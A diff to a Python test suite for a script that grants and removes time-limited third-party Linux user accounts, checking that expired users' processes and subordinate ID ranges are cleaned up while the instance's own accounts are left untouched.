 def test_a_user_an_earlier_version_made_loses_its_subordinate_ids_and_what_ran_as_them(with_subordinate_ids):
     system = with_subordinate_ids
     result = system.run_script(
-        before=f"useradd --create-home {MADE_HERE} {USER} && {RUN_AS_SUBORDINATE} && sleep 0.3"
-        f" && [ $(pgrep -c -u {SUBORDINATE}) = 1 ] && bash {system.script}"
+        before=f"useradd --create-home {MADE_HERE} {USER} && {RUN_AS_SUBORDINATE} && bash {system.script}"
         f" && echo subordinate=$(pgrep -c -u {SUBORDINATE} || true) && {session(USER, 'echo opened')}",
     )
     assert result.returncode == 0, result.stderr
@@ -637,18 +647,24 @@ def test_a_user_an_earlier_version_made_loses_its_subordinate_ids_and_what_ran_a
 
 
 @needs_root
-def test_removing_a_user_ends_what_ran_as_its_subordinate_uids_and_no_one_gets_its_range(with_subordinate_ids):
+def test_removing_a_user_ends_what_ran_as_its_subordinate_uids_and_the_user_it_makes_gets_none(with_subordinate_ids):
+    # USER, made by an earlier version, has the first range (SUBORDINATE's) and runs a process as it; ops, made
+    # after, the next. Third-party-b's grant removes USER and makes third-party-b.
     system = with_subordinate_ids
     other = scripts(system, **{"third-party-b": FUTURE})["third-party-b"]
     result = system.run(
         f"useradd --create-home {MADE_HERE} {USER} && usermod --append --groups $(groupadd {RUN_AS_GROUP} && echo"
-        f" {RUN_AS_GROUP}) {USER} && {RUN_AS_SUBORDINATE} && sleep 0.3 && bash {other}"
+        f" {RUN_AS_GROUP}) {USER} && useradd ops && {RUN_AS_SUBORDINATE} && bash {other}"
         f" && echo subordinate=$(pgrep -c -u {SUBORDINATE} || true)"
     )
     assert result.returncode == 0, result.stderr
     assert f"{USER} is removed" in result.stdout
-    assert "subordinate=0" in result.stdout
-    assert subordinate_lines(system, USER) == subordinate_lines(system, "third-party-b") == []
+    assert "subordinate=0" in result.stdout, "what ran as the removed user's subordinate uids still runs"
+    assert subordinate_lines(system, "ops") == ["ops:165536:65536"] * 2, "the setup gives no ranges"
+    assert subordinate_lines(system, USER) == [], "the removed user's range is left"
+    assert subordinate_lines(system, "third-party-b") == [], "the user it made has subordinate ids"
+    # useradd gave it none, so there was nothing to take away
+    assert "third-party-b: its subordinate ids are taken away" not in result.stdout
 
 
 # -- a removal that fails half-way: its uid recorded first, and finished by the next run ---------------------------
@@ -715,16 +731,17 @@ def test_once_the_last_regular_uid_is_taken_it_refuses_to_plan_one_rather_than_c
 
 
 @needs_root
-def test_an_account_of_the_instance_is_never_taken_over_and_the_other_removals_happen(system):
-    uid = granted_first(system, USER)[USER]
-    deploy = scripts(system, deploy=FUTURE)["deploy"]
-    expired = system.script.with_name("deploy-expired.sh")
+def test_accounts_of_the_instance_are_never_taken_over_nor_touched_and_the_other_removals_happen(granted):
+    # deploy, an account of the instance that a grant names; ops, one that no grant names. Each runs a process.
+    uid = int(granted.passwd_entry(USER)[2])
+    deploy = scripts(granted, deploy=FUTURE)["deploy"]
+    expired = granted.script.with_name("deploy-expired.sh")
     expired.write_text(run_as_user_script(["deploy"], PAST))
-    result = system.run(
+    result = granted.run(
         "(getent group docker >/dev/null || groupadd docker) && useradd --create-home --groups docker deploy"
-        " && (setpriv --reuid=deploy --regid=deploy --init-groups nohup sleep 600 >/dev/null 2>&1 &) && sleep 0.3"
+        f" && useradd --create-home ops && {process_of('deploy')} && {process_of('ops')}"
         f" && {{ bash {deploy}; echo status=$?; }} && {{ bash {expired}; echo status=$?; }}"
-        " && echo deploy=$(pgrep -c -u deploy || true)"
+        " && echo deploy=$(pgrep -c -u deploy || true) ops=$(pgrep -c -u ops || true)"
     )
     assert result.stdout.count("status=1") == 2, result.stderr
     assert (
@@ -732,8 +749,10 @@ def test_an_account_of_the_instance_is_never_taken_over_and_the_other_removals_h
         " (its comment is not 'third-party-ec2-access Run As user')" in result.stderr
     )
     assert "refusing to remove deploy: this product did not make it" in result.stderr
-    assert "deploy" in system.group_members("docker")  # its groups as they were
-    assert "deploy" not in system.group_members(RUN_AS_GROUP)
+    assert "deploy" in granted.group_members("docker")  # its groups as they were
+    assert "deploy" not in granted.group_members(RUN_AS_GROUP)
     assert "deploy=1" in result.stdout  # its processes left alone
-    assert (system.home / "deploy").is_dir()
-    assert_removed(system, USER, uid)  # the other party's user is removed all the same
+    assert (granted.home / "deploy").is_dir()
+    assert "ops=1" in result.stdout, "a process of a user no grant names was ended"
+    assert granted.shadow_entry("ops")[7] == "", "a user no grant names was given an expiry"
+    assert_removed(granted, USER, uid)  # the other party's user is removed all the same
